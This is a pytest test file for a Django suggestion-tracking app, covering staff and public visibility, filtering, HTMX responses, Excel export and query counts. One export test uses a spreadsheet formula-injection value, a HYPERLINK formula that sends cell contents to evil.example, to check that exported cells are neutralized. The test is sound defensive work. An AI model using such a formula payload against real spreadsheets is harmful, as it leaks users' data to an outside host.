"""Staff follow what became of every suggestion across consultations; the public sees the public part."""

from datetime import timedelta
from io import BytesIO

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from departments.models import Rating, Score
from meetings.models import Visibility
from tests import factories

TRACKER = reverse("departments:tracker")
EXPORT = reverse("departments:tracker_export")


@pytest.fixture
def world(consultation, department):
    """An overdue claim, a replied one, an unclaimed aspect, and an aspect of an invited-only consultation."""
    def aspect_in(meeting, title):
        return factories.AspectFactory(post=factories.PostFactory(consultation=meeting, title=title), title=title)

    overdue = factories.ClaimFactory(aspect=aspect_in(consultation, "逾期未复"), department=department,
                                     due_on=timezone.localdate() - timedelta(days=3))
    replied = factories.ReplyFactory(claim=factories.ClaimFactory(
        aspect=aspect_in(consultation, "已经答复"), state="replied")).claim
    unclaimed = aspect_in(consultation, "尚未认领")
    invited = factories.ConsultationFactory(visibility=Visibility.INVITED)
    private = aspect_in(invited, "内部议题")
    return {"overdue": overdue, "replied": replied, "unclaimed": unclaimed, "private": private}


def titles(response) -> list[str]:
    html = response.content.decode()
    found = [(html.index(t), t) for t in ["逾期未复", "已经答复", "尚未认领", "内部议题"] if t in html]
    return [t for _i, t in sorted(found)]


def test_staff_see_every_consultation_most_urgent_first(client, staff, world):
    client.force_login(staff)
    response = client.get(TRACKER)
    assert response.status_code == 200
    assert titles(response) == ["逾期未复", "内部议题", "尚未认领", "已经答复"]


def test_the_public_sees_public_consultations_only(client, world):
    response = client.get(TRACKER)
    assert response.status_code == 200
    assert "内部议题" not in titles(response)
    assert titles(response) == ["逾期未复", "尚未认领", "已经答复"]


def test_hidden_speeches_stay_out_of_the_public_tracker(client, world):
    post = world["overdue"].aspect.post
    post.is_hidden = True
    post.save()
    assert "逾期未复" not in titles(client.get(TRACKER))


def test_filters_by_department_state_and_overdue(client, staff, world, department):
    client.force_login(staff)
    assert titles(client.get(TRACKER, {"department": department.slug})) == ["逾期未复"]
    assert titles(client.get(TRACKER, {"state": "unclaimed"})) == ["内部议题", "尚未认领"]
    assert titles(client.get(TRACKER, {"overdue": "on"})) == ["逾期未复"]
    assert titles(client.get(TRACKER, {"disposition": "resolved"})) == ["已经答复"]


def test_a_reversed_date_range_is_refused_with_a_message(client, staff, world):
    client.force_login(staff)
    response = client.get(TRACKER, {"since": "2026-12-01", "until": "2026-11-01"})
    assert response.status_code == 200
    assert "开始日期晚于结束日期" in response.content.decode()


def test_an_unknown_department_is_a_form_error_not_a_500(client, staff, world):
    client.force_login(staff)
    response = client.get(TRACKER, {"department": "no-such-department"})
    assert response.status_code == 200
    assert len(titles(response)) == 4


def test_the_public_cannot_filter_into_an_invited_only_consultation(client, world):
    slug = world["private"].post.consultation.slug
    response = client.get(TRACKER, {"consultation": slug})
    assert "内部议题" not in response.content.decode()


def test_htmx_filtering_answers_the_rows_fragment(client, staff, world):
    client.force_login(staff)
    response = client.get(TRACKER, {"state": "unclaimed"}, HTTP_HX_REQUEST="true")
    html = response.content.decode()
    assert html.lstrip().startswith('<section id="tracker-rows"') and "<html" not in html


def test_the_export_has_the_filters_and_no_formula(client, staff, world, department):
    world["overdue"].aspect.post.title = '=HYPERLINK("https://evil.example/?x="&A1,"详情")'
    world["overdue"].aspect.post.save()
    client.force_login(staff)
    response = client.get(EXPORT, {"department": department.slug})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2  # the header and the one aspect of that department
    assert rows[1][1] == "'" + '=HYPERLINK("https://evil.example/?x="&A1,"详情")'
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert rows[1][8] == world["overdue"].due_on.isoformat() or rows[1][8].date() == world["overdue"].due_on


def test_the_public_export_leaves_invited_only_consultations_out(client, world):
    sheet = load_workbook(BytesIO(client.get(EXPORT).content)).active
    assert "内部议题" not in [row[1] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("extra", [0, 30])
def test_the_tracker_page_costs_the_same_queries_however_many_aspects(client, staff, world, consultation,
                                                                     django_assert_max_num_queries, extra):
    for _number in range(extra):
        factories.ClaimFactory(aspect=factories.AspectFactory(post=factories.PostFactory(consultation=consultation)))
    client.force_login(staff)
    with django_assert_max_num_queries(12):
        assert client.get(TRACKER).status_code == 200


def test_the_home_page_shows_the_committees_totals(client, world):
    reply = world["replied"].replies.get()
    Rating.objects.create(reply=reply, rater=reply.claim.aspect.post.author, score=Score.SATISFIED)
    html = client.get(reverse("home")).content.decode()
    assert "委员会办理总览" in html
    assert "<dd>100%</dd>" in html  # one rating, satisfied
    assert reverse("departments:tracker") in html


def test_a_departments_public_record_links_to_its_part_of_the_tracker(client, world, department):
    html = client.get(reverse("departments:detail", args=[department.slug])).content.decode()
    assert f'{reverse("departments:tracker")}?department={department.slug}' in html
